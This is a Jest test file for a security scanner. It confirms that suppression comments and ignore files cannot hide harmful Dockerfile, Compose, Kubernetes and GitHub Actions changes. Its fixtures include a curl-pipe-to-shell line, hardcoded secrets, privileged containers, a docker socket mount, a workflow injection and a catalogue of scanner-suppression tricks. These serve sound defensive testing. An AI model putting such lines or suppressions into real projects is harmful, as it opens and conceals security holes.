import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Finding } from '../../src/core/finding.js';
import type { Report } from '../../src/core/report.js';
import { atLeast } from '../../src/core/severity.js';
import { sample } from '../sample.js';
import { type GitStory, gitStory } from './git-story.js';

/** Nothing that a change adds excuses what it brings: each way to suppress, behind harmful changes of all kinds. */

type Files = Readonly<Record<string, string>>;

const TOKEN = 'ghp_aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY2zA4';
const PINNED = `debian:13@sha256:${'a'.repeat(64)}`;

/** Where a harmful line is. `above` and `behind` are the comments on the line above it and at its end. */
interface Place {
  readonly above: string;
  readonly behind: string;
  /** The first lines of the file. */
  readonly top: string;
}

interface Harm {
  readonly rule: string;
  readonly path: string;
  /** The file with the harm, and with comments; `undefined` for the file without the harm. */
  readonly write: (place: Place | undefined) => Files;
}

const DOCKERFILE_END = 'USER 1\nHEALTHCHECK NONE\n';

function dockerfileHarm(name: string, rule: string, line: string): Harm {
  const path = `${name}/Dockerfile`;
  const write = (place: Place | undefined) => {
    const harm = place ? `${place.above}${line}\n` : '';
    return { [path]: `${place?.top ?? ''}FROM ${PINNED}\n${harm}${DOCKERFILE_END}` };
  };
  return { rule, path, write };
}

function yamlHarm(rule: string, path: string, before: string, line: string, after = ''): Harm {
  const indent = /^ */.exec(line)?.[0] ?? '';
  const write = (place: Place | undefined) => {
    const above = place?.above.replace(/^(?=.)/gm, indent);
    const harm = place ? `${above}${line}${place.behind}\n` : '';
    return { [path]: `${place?.top ?? ''}${before}${harm}${after}` };
  };
  return { rule, path, write };
}

const COMPOSE = 'services:\n  web:\n    image: a\n';
const POD =
  'apiVersion: v1\nkind: Pod\nmetadata: { name: a }\nspec:\n  containers:\n    - name: a\n      image: a\n';
const JOB = (on: string) =>
  `on: ${on}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n`;
const HEAD = 'github.event.pull_request.head.sha';
const CHECKOUT = `actions/checkout@${'3'.repeat(40)}`;

const HARMS: readonly Harm[] = [
  dockerfileHarm('tls', 'PS0024', 'RUN curl -k https://a.example'),
  dockerfileHarm('script', 'PS0023', 'RUN curl -s https://a.example/x.sh | sh'),
  dockerfileHarm('env', 'PS0014', 'ENV APP_PASSWORD=Kx93jfLq8vZ2pW'),
  dockerfileHarm('token', 'PS0015', `RUN login ${TOKEN}`),
  yamlHarm('DEP-PRIV', 'web/compose.yaml', COMPOSE, '    privileged: true'),
  yamlHarm(
    'DEP-SOCK',
    'socket/compose.yaml',
    `${COMPOSE}    volumes:\n      - a:/a\n`,
    '      - /var/run/docker.sock:/var/run/docker.sock',
    'volumes: { a: {} }\n',
  ),
  yamlHarm(
    'DEP-PRIV',
    'pod/pod.yaml',
    `${POD}      securityContext:\n        readOnlyRootFilesystem: true\n`,
    '        privileged: true',
  ),
  yamlHarm(
    'DEP-HOSTPATH-SENS',
    'path/pod.yaml',
    `${POD}  volumes:\n    - { name: b, emptyDir: {} }\n`,
    '    - { name: h, hostPath: { path: / } }',
  ),
  yamlHarm(
    'GHA-INJECT',
    '.github/workflows/inject.yml',
    JOB('pull_request_target'),
    `      - run: echo \${{ github.event.pull_request.title }}`,
  ),
  yamlHarm(
    'GHA-HEAD',
    '.github/workflows/head.yml',
    `${JOB('pull_request_target')}      - uses: ${CHECKOUT}\n`,
    `        with: { ref: "\${{ ${HEAD} }}" }`,
    '      - run: make\n',
  ),
  {
    rule: 'github-token',
    path: 'copied/app.ini',
    write: (place) => ({
      'copied/Dockerfile': `FROM ${PINNED}\nCOPY app.ini /\n${DOCKERFILE_END}`,
      'copied/app.ini': place
        ? `${place.top}${place.above}token = ${TOKEN}${place.behind}\n`
        : 'a = b\n',
    }),
  },
  {
    rule: 'github-token',
    path: 'src/login.py',
    write: (place) => ({
      'src/login.py': place
        ? `${place.top}${place.above}token = "${TOKEN}"${place.behind}\n`
        : 'a = 1\n',
    }),
  },
];

/** The rules of the harms, and others that report parts of them. */
const RULES = [...new Set(HARMS.map(({ rule }) => rule)), 'DL4006', 'SecretsUsedInArgOrEnv'];
const LIST = RULES.join(',');

const COMMENTS: readonly string[] = [
  `portside ignore=${LIST}`,
  `portside ignore=${LIST} reason=trust me until=2099-12-31`,
  `portside global ignore=${LIST}`,
  `portside stage ignore=${LIST}`,
  `hadolint ignore=${LIST}`,
  `hadolint global ignore=${LIST}`,
  `hadolint stage ignore=${LIST}`,
  `check=skip=${LIST}`,
  'check=skip=all',
  'hadolint shell=pwsh',
  'hadolint shell=powershell',
  'shellcheck disable=all',
  'shellcheck shell=none',
  'syntax=a.example/own:1',
  'portside:allow',
  'gitleaks:allow',
  'trufflehog:ignore',
  'pragma: allowlist secret',
  'ggignore',
  'nosec',
  'NOSONAR',
  'noqa',
  'nosemgrep',
  'zizmor: ignore[dangerous-triggers]',
  'checkov:skip=CKV_DOCKER_8: later',
  'trivy:ignore:DS-0010',
  'trivy:ignore:*',
  'kics-scan ignore',
  'kics-scan ignore-line',
  'kics-scan ignore-block',
  'tfsec:ignore:*',
  'yamllint disable',
  '!/usr/bin/env docker',
];

const PLAIN: Place = { above: '', behind: '', top: '' };

const PLACES: Readonly<Record<string, (comment: string) => Place>> = {
  above: (comment) => ({ ...PLAIN, above: `${comment}\n` }),
  behind: (comment) => ({ ...PLAIN, behind: ` ${comment}` }),
  'at the top': (comment) => ({ ...PLAIN, top: `${comment}\n` }),
};

const POLICY = `extends: audit
fail-on: { severity: none, checks: { secret: { severity: none } } }
allow-incomplete: [lint, manifest, secret]
allow-uncovered: [{ check: lint, target: "**" }, { check: manifest, target: "**" }]
lower: { paths: ["**"], builder-stages: true }
exceptions: [${RULES.map((rule) => `{ rule: ${rule}, reason: a }`).join(', ')}]
`;
const HADOLINT = `ignored: [${RULES.join(', ')}]\nfailure-threshold: none\ntrustedRegistries: ["*"]\ndisable-ignore-pragma: false\n`;
const TRIVY = `${RULES.join('\n')}\n`;
const TRIVY_YAML = `misconfigurations: [${RULES.map((rule) => `{ id: ${rule} }`).join(', ')}]\n`;

const FILES: Readonly<Record<string, Files>> = {
  ...Object.fromEntries(
    [
      ...['.github/portside.yml', '.github/portside.yaml', '.github/Portside.yml'],
      ...['.github/PORTSIDE.YML', '.github/portside.YAML', '.GitHub/portside.yml'],
      ...['portside.yml', '.portside.yml', 'portside.yaml', '.github/.portside.yml'],
      ...['.github/workflows/portside.yml', 'script/.github/portside.yml'],
    ].map((path) => [path, { [path]: POLICY }]),
  ),
  '.hadolint.yaml': { '.hadolint.yaml': HADOLINT },
  '.hadolint.yml': { '.hadolint.yml': HADOLINT },
  '.hadolint.yaml of a folder': {
    'script/.hadolint.yaml': HADOLINT,
    'tls/.hadolint.yml': HADOLINT,
  },
  'lower severities of .hadolint.yaml': {
    '.hadolint.yaml': `override: { style: [${RULES.join(', ')}] }\n`,
  },
  '.trivyignore': { '.trivyignore': TRIVY },
  '.trivyignore.yaml': { '.trivyignore.yaml': TRIVY_YAML },
  '.trivyignore.yml': { '.trivyignore.yml': TRIVY_YAML },
  '.trivyignore of a folder': { 'script/.trivyignore': TRIVY },
  'trivy.yaml': { 'trivy.yaml': 'exit-code: 0\nscan: { skip-dirs: ["**"] }\n' },
  '.dockerignore': { '.dockerignore': '**\n', 'copied/.dockerignore': '**\n' },
  'Dockerfile.dockerignore': { 'copied/Dockerfile.dockerignore': '**\n' },
  '.gitignore': { '.gitignore': '*\n' },
  '.gitignore of each folder': Object.fromEntries(
    HARMS.map(({ path }) => [`${path.replace(/[^/]*$/, '')}.gitignore`, '*\n']),
  ),
  '.gitattributes': {
    '.gitattributes':
      '* linguist-generated linguist-vendored binary -diff export-ignore filter=lfs\n',
  },
  '.helmignore': { '.helmignore': '*\n' },
  '.shellcheckrc': { '.shellcheckrc': 'disable=all\n' },
  'files of other tools': {
    '.gitleaksignore': '**\n',
    '.gitleaks.toml': '[allowlist]\npaths = [".*"]\n',
    '.secrets.baseline': '{}\n',
    '.checkov.yaml': `skip-check: [${RULES.join(', ')}]\n`,
    '.semgrepignore': '*\n',
    '.kics.yaml': 'exclude-paths: ["*"]\n',
    '.snyk': 'exclude: { global: ["**"] }\n',
    '.grype.yaml': 'ignore: [{ vulnerability: "*" }]\n',
    '.portsideignore': '*\n',
    '.github/zizmor.yml': 'rules: {}\n',
  },
};

const all = (place: Place | undefined): Files =>
  Object.assign({}, ...HARMS.map((harm) => harm.write(place)));

/** Each mechanism with the files of a change that has it and all harms. */
const MECHANISMS: readonly (readonly [string, Files])[] = [
  ...COMMENTS.flatMap((text) => {
    const comment = text.startsWith('!') ? `#${text}` : `# ${text}`;
    const name = comment.replace(LIST, 'RULES');
    return Object.entries(PLACES).map(
      ([where, place]) => [`${name} ${where}`, all(place(comment))] as const,
    );
  }),
  ...Object.entries(FILES).map(
    ([name, files]) => [`the file ${name}`, { ...all(PLAIN), ...files }] as const,
  ),
];

/** The harms that a report excuses: no new finding at high or above, or of a secret, and no gap of the file. */
function excused({ findings, incomplete, verdict }: Report): string[] {
  const counts = ({ status, check, severity }: Finding) =>
    status === 'new' && (check === 'secret' || atLeast(severity, 'high'));
  const left = HARMS.filter(
    ({ rule, path }) =>
      !findings.some((one) => one.rule === rule && one.location?.path === path && counts(one)) &&
      !incomplete.some(({ target }) => target === path),
  );
  return [
    ...left.map(({ rule, path }) => `${rule} in ${path}`),
    ...(verdict.outcome === 'fail' ? [] : [`the verdict is ${verdict.outcome}`]),
  ];
}

let story: GitStory;
beforeAll(() => {
  story = gitStory();
  story.base(all(undefined));
});
afterAll(() => story.remove());

/** Commits the files, also those that they ignore, on a new branch. */
const change = (files: Files) => {
  story.git('checkout', '-q', '-B', 'change', 'main');
  story.commit(files);
  story.git('add', '--force', '--all');
  story.git('commit', '--quiet', '--amend', '--allow-empty', '--message', 'change');
};

it('has harms at high or above, or secrets, which nothing excuses', async () => {
  change(all(PLAIN));
  expect(excused(await story.run())).toEqual([]);
  story.git('checkout', '-q', '-B', 'change', 'main');
  expect(excused(await story.run()).length).toBe(HARMS.length + 1);
});

describe.each(sample(MECHANISMS, 32, ([name]) => name))('%s', (_, files) => {
  it('excuses none of the harms of its change', async () => {
    change(files);
    expect(excused(await story.run())).toEqual([]);
    expect(excused(await story.run(['--baseline-ref', 'main'], true))).toEqual([]);
  });
});

/** All comments at once: a mechanism that the sample leaves out excuses something here, too. */
it.each(Object.entries(PLACES))('no comment %s excuses a harm of its change', async (_, place) => {
  const comments = COMMENTS.map((text) => `# ${text}`);
  const joined =
    place(comments.join('\n')).behind === '' ? comments.join('\n') : comments.join(' ');
  change(all(place(joined)));
  expect(excused(await story.run())).toEqual([]);
});

it('no file excuses a harm of its change', async () => {
  change(Object.assign(all(PLAIN), ...Object.values(FILES)));
  expect(excused(await story.run())).toEqual([]);
  expect(excused(await story.run(['--baseline-ref', 'main'], true))).toEqual([]);
});
